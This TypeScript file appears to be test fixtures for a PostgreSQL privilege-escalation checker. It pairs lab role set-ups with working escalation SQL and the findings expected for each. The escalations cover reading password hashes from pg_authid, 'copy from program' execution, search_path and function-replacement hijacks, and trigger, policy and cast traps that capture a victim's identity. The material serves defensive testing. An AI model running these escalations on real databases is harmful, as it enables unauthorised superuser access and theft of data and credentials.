/** Runs SQL as a login in the database of the set-ups; gives the first value. */
type AsUser = (user: string, sql: string, database?: string) => Promise<string | null>;

/** A set-up that a check finds, with something beside it that it must not find, and the attack that it stands for. */
export interface Escalated {
  readonly id: string;
  /** Majors. */
  readonly since?: number;
  readonly until?: number;
  readonly setup: (major: number) => string;
  readonly escalate?: (as: AsUser, major: number) => Promise<unknown>;
  /** What the attack gives. */
  readonly gets?: unknown;
  /** What it gives once mended. @default it is refused for lack of a right */
  readonly afterwards?: unknown;
  /** What the attack leaves behind, taken away by a superuser. */
  readonly undo?: string;
  /** The way that the attack goes, by the roles at its ends. */
  readonly way?: { readonly from: string; readonly to: string; readonly needsVictim: boolean };
  /** What mends it where a finding gives no statement. */
  readonly mend?: (major: number) => string;
}

export const ESCALATIONS: readonly Escalated[] = [
  {
    id: "PGE-01",
    way: { from: "pge01_admin", to: "pge01_data", needsVictim: false },
    since: 16,
    setup: () => `
      create role pge01_admin login; create role pge01_data; create role pge01_other;
      create schema pge01; create table pge01.t as select 'secret' as s;
      grant usage on schema pge01 to pge01_data; grant select on pge01.t to pge01_data;
      grant pge01_data to pge01_admin with admin true, inherit false, set false;
      grant pge01_other to pge01_admin with admin true, inherit true, set false;`,
    escalate: (as) =>
      as("pge01_admin", "begin; grant pge01_data to pge01_admin with inherit true; select s from pge01.t"),
    gets: "secret",
  },
  {
    id: "CREATEROLE until 15",
    until: 15,
    setup: () => "create role cr_maker login createrole; create role cr_team;",
    way: { from: "cr_maker", to: "superuser", needsVictim: false },
    escalate: (as) =>
      as(
        "cr_maker",
        `begin; grant pg_execute_server_program to cr_maker; create temp table got (line text);
         copy got from program 'echo owned'; select line from got`,
      ),
    gets: "owned",
    mend: () => "alter role cr_maker nocreaterole",
  },
  {
    id: "CREATEROLE from 16 on",
    since: 16,
    setup: () => `
      create role cr_maker login createrole; create role cr_heads; create role cr_app login; create role cr_other login;
      grant cr_heads to cr_maker with inherit false, set false; grant cr_app to cr_heads with admin true, inherit true, set true;`,
    way: { from: "cr_maker", to: "cr_app", needsVictim: false },
    escalate: (as) => as("cr_maker", "begin; alter role cr_app password 'mine'; select 'set'"),
    gets: "set",
    mend: () => "alter role cr_maker nocreaterole",
  },
  {
    id: "CREATEROLE without ADMIN from 16 on",
    since: 16,
    setup: () => "create role cr_lone login createrole; create role cr_safe login;",
    escalate: (as) =>
      as("cr_lone", "begin; alter role cr_safe password 'mine'; select 'set'").catch(
        (error: unknown) => (error as { code: string }).code,
      ),
    gets: "42501",
    afterwards: "42501",
  },
  {
    id: "PGE-02",
    until: 14,
    setup: () => "create role pge02_giver login; create role pge02_taker login;",
    escalate: (as) => as("pge02_giver", "begin; grant pge02_giver to pge02_taker; select 'given'"),
    gets: "given",
    afterwards: "given",
  },
  {
    id: "PGE-03",
    way: { from: "pge03_etl", to: "superuser", needsVictim: false },
    setup: () => `
      create role pge03_etl login; create role pge03_no login noinherit; create role pge03_mon login;
      grant pg_execute_server_program to pge03_etl; grant pg_read_server_files to pge03_no; grant pg_monitor to pge03_mon;`,
    escalate: (as) =>
      as("pge03_etl", "create temp table got (line text); copy got from program 'echo owned'; select line from got"),
    gets: "owned",
  },
  {
    id: "PGE-04",
    way: { from: "pge04_viewer", to: "pge04_all", needsVictim: false },
    setup: (major) => `
      create role pge04_reader login; create role pge04_viewer login; create role pge04_names login; create role pge04_all login;
      alter role pge04_all password 'something';
      create schema pge04; grant usage on schema pge04 to public;
      create view pge04.v as select usename, passwd from pg_shadow;
      grant select on pge04.v to pge04_viewer; grant select on pg_authid to pge04_reader;
      grant select (rolname, rolsuper) on pg_authid to pge04_names;
      ${major >= 14 ? "grant pg_read_all_data to pge04_all;" : ""}`,
    escalate: async (as) => {
      const own = await as("pge04_reader", "select left(rolpassword, 3) from pg_authid where rolname = 'pge04_all'");
      const view = await as("pge04_viewer", "select left(passwd, 3) from pge04.v where usename = 'pge04_all'");
      return [own?.length, view?.length];
    },
    gets: [3, 3],
  },
  {
    id: "PGE-05",
    way: { from: "pge05_app", to: "superuser", needsVictim: false },
    setup: () => `
      create role pge05_app login; create role pge05_near login;
      grant execute on function pg_read_file(text) to pge05_app; grant execute on function pg_sleep(double precision) to pge05_near;`,
    escalate: async (as) => (await as("pge05_app", "select pg_read_file('PG_VERSION')"))?.trim() !== "",
    gets: true,
  },
  {
    id: "PGE-06",
    way: { from: "pge06_dev", to: "superuser", needsVictim: false },
    setup: () => `
      create role pge06_dev login; create role pge06_owner;
      create schema pge06; grant usage, create on schema pge06 to pge06_dev;
      create function pge06.native(int, int) returns int language internal strict as 'int4pl';
      create function pge06.fine(int) returns int language sql as 'select 1';
      alter function pge06.native(int, int) owner to pge06_owner; alter function pge06.fine(int) owner to pge06_owner;
      update pg_language set lanpltrusted = true where lanname = 'internal';`,
    escalate: async (as) => {
      const sql = `create or replace function pge06.mine(text) returns text language internal strict as 'pg_read_file_all';
        select pge06.mine('PG_VERSION')`;
      return (await as("pge06_dev", sql))?.trim() !== "";
    },
    gets: true,
    undo: "drop function pge06.mine(text)",
  },
  {
    id: "PGE-07",
    way: { from: "pge07_app", to: "pge07_owner", needsVictim: false },
    setup: () => `
      create role pge07_app login; create role pge07_owner;
      create schema pge07; create schema pge07_lab authorization pge07_app; grant usage on schema pge07 to pge07_app, pge07_owner;
      create table pge07.secret as select 'secret'::text as s; grant select on pge07.secret to pge07_owner;
      grant usage on schema pge07_lab to pge07_owner;
      create function pge07.helper() returns text language sql as $$ select 'harmless'::text $$;
      create function pge07.f() returns text language plpgsql security definer as $$ begin return helper(); end $$;
      create function pge07.ok() returns text language plpgsql security definer set search_path = pge07, pg_temp
        as $$ begin return helper(); end $$;
      alter function pge07.f() owner to pge07_owner; alter function pge07.ok() owner to pge07_owner;`,
    escalate: (as) =>
      as(
        "pge07_app",
        `create or replace function pge07_lab.helper() returns text language sql as $$ select s from pge07.secret $$;
         set search_path = pge07_lab, pge07; select pge07.f()`,
      ),
    gets: "secret",
    afterwards: "harmless",
  },
  {
    id: "PGE-08",
    setup: () => `
      create role pge08_app login; create schema pge08; grant usage on schema pge08 to public;
      create function pge08.run(what text) returns text language plpgsql security definer set search_path = pg_catalog, pg_temp
        as $$ declare r text; begin execute what into r; return r; end $$;
      create function pge08.fixed() returns text language sql set search_path = pg_catalog, pg_temp as 'select current_user::text';
      create function pge08.kept(what text) returns text language plpgsql security definer set search_path = pg_catalog, pg_temp
        as $$ declare r text; begin execute what into r; return r; end $$;
      revoke execute on function pge08.kept(text) from public;`,
    escalate: (as) => as("pge08_app", "select pge08.run('select current_user::text')"),
    gets: "postgres",
  },
  {
    id: "PGE-09",
    way: { from: "pge09_member", to: "superuser", needsVictim: false },
    since: 16,
    setup: () => `
      create role pge09_member login; create role pge09_near login; create role pge09_owner superuser; create role pge09_calm;
      create schema pge09 authorization pge09_owner;
      create function pge09.f() returns text language sql as 'select 1::text'; alter function pge09.f() owner to pge09_owner;
      grant pge09_owner to pge09_member with inherit true, set false;
      grant pge09_calm to pge09_near with inherit true, set false;`,
    escalate: (as) =>
      as(
        "pge09_member",
        `create or replace function pge09.f() returns text language sql security definer
           as $$ select current_user::text from pg_authid limit 1 $$;
         select pge09.f()`,
      ),
    gets: "pge09_owner",
  },
  {
    id: "PGE-10",
    way: { from: "pge10_app", to: "pge10_writer", needsVictim: true },
    setup: () => `
      create role pge10_app login; create role pge10_writer login; create schema pge10; create schema pge10_lab authorization pge10_app;
      create table pge10.t (id int); create table pge10.u (id int);
      grant usage on schema pge10 to pge10_app, pge10_writer;
      grant trigger on pge10.t to pge10_app; grant insert on pge10.t to pge10_writer; grant insert on pge10.u to pge10_app;`,
    escalate: async (as) => {
      await as(
        "pge10_app",
        `create table if not exists pge10_lab.loot (who text); grant usage on schema pge10_lab to public; grant insert on pge10_lab.loot to public;
         create or replace function pge10_lab.spy() returns trigger language plpgsql
           as $$ begin insert into pge10_lab.loot values (current_user); return new; end $$;
         create trigger spy before insert on pge10.t for each row execute function pge10_lab.spy()`,
      );
      await as("pge10_writer", "insert into pge10.t values (1)");
      return await as("pge10_app", "select who from pge10_lab.loot");
    },
    gets: "pge10_writer",
    undo: "drop trigger spy on pge10.t; drop table pge10_lab.loot",
  },
  {
    id: "PGE-11",
    way: { from: "pge11_app", to: "pge11_owner", needsVictim: false },
    setup: () => `
      create role pge11_app login; create role pge11_near login; create role pge11_owner;
      create schema pge11; create schema pge11_lab authorization pge11_app;
      create table pge11.t (id int primary key); insert into pge11.t values (1);
      alter table pge11.t owner to pge11_owner; grant usage on schema pge11 to pge11_owner, pge11_app;
      grant references (id) on pge11.t to pge11_app, pge11_near;`,
    escalate: (as) =>
      as(
        "pge11_app",
        `begin; create type pge11_lab.mine as (x int);
         create function pge11_lab.conv(v pge11_lab.mine) returns int language plpgsql
           as $$ begin perform set_config('pge11.loot', current_user::text, false); return v.x; end $$;
         grant usage on schema pge11_lab to public;
         create cast (pge11_lab.mine as int) with function pge11_lab.conv(pge11_lab.mine) as implicit;
         create table pge11_lab.fk (m pge11_lab.mine references pge11.t (id));
         insert into pge11_lab.fk values (row(1)::pge11_lab.mine);
         select current_setting('pge11.loot')`,
      ),
    gets: "pge11_owner",
  },
  {
    id: "PGE-12",
    way: { from: "pge12_dev", to: "pge12_boss", needsVictim: true },
    setup: () => `
      create role pge12_dev login; create role pge12_boss login createrole; create role pge12_owner; create role pge12_plain login;
      create schema pge12; create schema pge12_lab authorization pge12_dev; grant usage on schema pge12 to pge12_dev, pge12_boss, pge12_plain;
      create table pge12.t as select 1 as id; alter table pge12.t owner to pge12_dev;
      create table pge12.calm as select 1 as id; alter table pge12.calm owner to pge12_dev;
      create table pge12.owned as select 1 as id; alter table pge12.owned owner to pge12_owner;
      grant select on pge12.t, pge12.owned to pge12_boss; grant select on pge12.calm to pge12_plain;`,
    escalate: async (as) => {
      await as(
        "pge12_dev",
        `create table if not exists pge12_lab.loot (who text); grant usage on schema pge12_lab to public; grant insert on pge12_lab.loot to public;
         create or replace function pge12_lab.spy() returns boolean language plpgsql
           as $$ begin insert into pge12_lab.loot values (current_user); return true; end $$;
         alter table pge12.t enable row level security; create policy spy on pge12.t using (pge12_lab.spy())`,
      );
      await as("pge12_boss", "select * from pge12.t");
      return await as("pge12_dev", "select who from pge12_lab.loot");
    },
    gets: "pge12_boss",
    undo: "drop policy spy on pge12.t; alter table pge12.t disable row level security; drop table pge12_lab.loot",
    mend: () => "alter table pge12.t owner to pge12_owner",
  },
  {
    id: "PGE-13",
    way: { from: "pge13_dev", to: "pge13_boss", needsVictim: true },
    setup: () => `
      create role pge13_dev login; create role pge13_boss login createrole; create role pge13_plain login;
      create schema pge13; create schema pge13_own; grant create, usage on schema pge13 to pge13_dev; grant usage on schema pge13 to pge13_boss;
      grant create on schema pge13_own to pge13_dev;
      alter role pge13_boss set search_path = pge13; alter role pge13_plain set search_path = pge13_own;`,
    escalate: async (as) => {
      await as(
        "pge13_dev",
        `create or replace function pge13.length(varchar) returns text language sql as $$ select 'run as ' || current_user $$`,
      );
      return await as("pge13_boss", "select length('x'::varchar)");
    },
    gets: "run as pge13_boss",
    undo: "drop function pge13.length(varchar)",
  },
  {
    id: "PGE-14",
    setup: () => "create role pge14_dev login; grant create on database esc to pge14_dev;",
    escalate: (as) => as("pge14_dev", "begin; create schema pge14_victim; select 'made'"),
    gets: "made",
  },
  {
    id: "PGE-15",
    setup: () => `
      create role pge15_dev; create role pge15_owner; create role pge15_login login; grant pge15_dev to pge15_login;
      create schema pge15 authorization pge15_dev; create schema pge15_ok authorization pge15_owner;
      create table pge15.t (id int); alter table pge15.t owner to pge15_owner;
      create table pge15_ok.t (id int); alter table pge15_ok.t owner to pge15_owner;`,
    escalate: (as) => as("pge15_login", "begin; drop table pge15.t; select 'dropped'"),
    gets: "dropped",
  },
  {
    id: "PGE-16",
    since: 15,
    setup: () => "create role pge16_app login; create role pge16_owner;",
    escalate: (as) => as("pge16_app", "begin; drop table public.kept; select 'dropped'", "pge16"),
    gets: "dropped",
    mend: () => "alter database pge16 owner to pge16_owner",
  },
  {
    id: "PGE-17",
    setup: () => `
      create role pge17_reader login; create role pge17_plain; create schema pge17;
      grant usage on schema pge17 to pge17_reader, pge17_plain;
      create table pge17.t (who text); insert into pge17.t values ('pge17_reader'), ('somebody else');
      alter table pge17.t enable row level security; alter table pge17.t force row level security;
      create policy own on pge17.t for select to pge17_reader, pge17_plain using (who = current_user);
      grant select on pge17.t to pge17_reader, pge17_plain;
      create view pge17.v as select * from pge17.t; grant select on pge17.v to pge17_reader;
      create view pge17.ok as select * from pge17.t; alter view pge17.ok owner to pge17_plain; grant select on pge17.ok to pge17_reader;`,
    escalate: (as) => as("pge17_reader", "select count(*) from pge17.v"),
    gets: "2",
    // Without security_invoker the policies are those of the owner, and \`current_user\` is the reader all the same.
    afterwards: "1",
    mend: (major) => (major < 15 ? "alter view pge17.v owner to pge17_plain" : "select 1"),
  },
  {
    id: "PGE-18",
    setup: () => `
      create role pge18_app login; create role pge18_r; create schema pge18; grant usage on schema pge18 to pge18_app;
      create table pge18.none (id int); alter table pge18.none enable row level security; alter table pge18.none force row level security;
      create table pge18.always (id int); alter table pge18.always enable row level security;
      create policy always on pge18.always to pge18_r using (true);
      create table pge18.wide (id int); alter table pge18.wide enable row level security;
      create policy wide on pge18.wide using (id = 1);
      create table pge18.own (id int); insert into pge18.own values (1), (2); alter table pge18.own enable row level security;
      create policy cond on pge18.own to pge18_app, pge18_r using (id = 1); alter table pge18.own owner to pge18_app;
      create table pge18.forced (id int); alter table pge18.forced enable row level security; alter table pge18.forced force row level security;
      create policy cond on pge18.forced to pge18_r using (id = 1); alter table pge18.forced owner to pge18_app;
      create table pge18.off (id int); alter table pge18.off owner to pge18_app;`,
    escalate: (as) => as("pge18_app", "select count(*) from pge18.own"),
    gets: "2",
    afterwards: "1",
    mend: () => `
      alter table pge18.none disable row level security;
      drop policy if exists always on pge18.always; create policy cond on pge18.always to pge18_r using (id = 1);
      alter policy wide on pge18.wide to pge18_r;`,
  },
  {
    id: "names that break whoever does not quote",
    setup: (major) => `
      create role "Ha'rd ""r"; create schema "od""d.s p"; grant usage on schema "od""d.s p" to public;
      create function "od""d.s p"."f""n"(int) returns int language plpgsql security definer as $$ begin return 1; end $$;
      create table "od""d.s p"."t.1" (id int); alter table "od""d.s p"."t.1" enable row level security;
      alter table "od""d.s p"."t.1" force row level security;
      create policy "p ""1" on "od""d.s p"."t.1" to "Ha'rd ""r" using (id = 1);
      ${
        major < 15
          ? ""
          : `create view "od""d.s p"."v'w" as select * from "od""d.s p"."t.1"; grant select on "od""d.s p"."v'w" to "Ha'rd ""r";`
      }`,
  },
];

/** What each check says of all set-ups together, sorted. */
export const OWN: Readonly<Record<string, (major: number) => readonly string[]>> = {
  "PGE-01": () => ["high `pge01_admin` holds ADMIN without INHERIT and SET on `pge01_data`, and can give itself both"],
  "PGE-02": (major) => [`info on PostgreSQL ${major} every login can make others members of itself`],
  "PGE-03": () => [
    "critical `pge03_etl` runs programs as the account of the server: it is a member of `pg_execute_server_program`",
    "critical `pge03_no` reads every file that the server can, keys and hashes of passwords among them: it is a member of `pg_read_server_files`",
  ],
  "PGE-04": (major) => [
    ...(major >= 14
      ? ["critical `pge04_all` reads the hashes of all passwords: it is a member of `pg_read_all_data`"]
      : []),
    "critical `pge04_reader` reads the hashes of all passwords in `table pg_catalog.pg_authid`",
    "critical `pge04_viewer` may read the hashes of all passwords through `table pge04.v`",
  ],
  "PGE-05": () => [
    "critical `pge05_app` may execute `routine pg_catalog.pg_read_file(text)`, which reads files as the account of the server",
  ],
  "PGE-06": () => [
    "critical `pge06_owner` owns `routine pge06.native(integer, integer)` in a language that reaches out of the database",
    "critical everybody may write functions in `language internal`, which is marked trusted and reaches out of the database",
  ],
  "PGE-07": () => [
    "high `routine pge07.f()` runs as `pge07_owner` for `pge07_app`, and it uses the search_path of its caller",
    'high `routine "od""d.s p"."f""n"(integer)` runs as `postgres` for everybody, and it uses the search_path of its caller',
  ],
  "PGE-08": () => [
    "high `routine pge08.run(text)` runs as `postgres`, which is a superuser, for everybody, and puts SQL together as it runs",
    'high `routine "od""d.s p"."f""n"(integer)` runs as `postgres`, which is a superuser, for everybody',
  ],
  "PGE-09": () => [
    "critical `pge09_member` may not become `pge09_owner`, which is a superuser, but can replace `routine pge09.f()` and run as it",
  ],
  "PGE-10": () => [
    "critical `pge10_app` holds trigger on `table pge10.t`, and so runs code as whoever writes there: `pge10_writer`, `postgres`",
  ],
  "PGE-11": (major) =>
    // Until 14 everybody may create in `public`.
    ["pge11_app", ...(major < 15 ? ["pge11_near"] : [])].map(
      (name) =>
        `high \`${name}\` holds references on \`column pge11.t.id\` and may create in the database, and so runs code as the owner: \`pge11_owner\``,
    ),
  "PGE-12": () => ["high `pge12_boss` manages roles and uses `table pge12.t`, whose code `pge12_dev` can change"],
  "PGE-13": (major) => [
    "high `pge13_dev` may create in `schema pge13`, where `pge13_boss` looks up names",
    // Until 14 databases are made so.
    ...(major === 14
      ? [
          "high everybody may create in `schema public`, where `cr_maker`, `pge03_etl`, `pge04_all` and 2 more look up names",
        ]
      : []),
    ...(major === 13
      ? [
          "high everybody may create in `schema public`, where `cr_maker`, `pge03_etl`, `pge12_boss` and 1 more look up names",
        ]
      : []),
  ],
  "PGE-14": () => ["medium `pge14_dev` may make schemas in `database esc`"],
  "PGE-15": () => ["medium `pge15_dev` owns `schema pge15` and may drop and replace one thing there of `pge15_owner`"],
  "PGE-16": () => ["high `pge16_app` owns `schema public` of `database pge16`, by acting as its owner `pge16_app`"],
  "PGE-17": (major) => [
    ...(major < 15
      ? []
      : [
          'high `table "od""d.s p"."v\'w"` shows `"Ha\'rd ""r"` all rows of `table "od""d.s p"."t.1"`, whose policies do not apply to its owner `postgres`',
        ]),
    "high `table pge17.v` shows `pge17_reader` all rows of `table pge17.t`, whose policies do not apply to its owner `postgres`",
  ],
  "PGE-18": () => [
    "low the policy `wide` of `table pge18.wide` is for everybody, also for roles that are made later",
    "medium no policy of `table pge18.own` applies to `pge18_app`, acting as the owner `pge18_app`",
    "medium row security is on for `table pge18.none`, and no policy lets anybody see a row",
    "medium the policy `always` lets `pge18_r` have every row of `table pge18.always`",
  ],
};
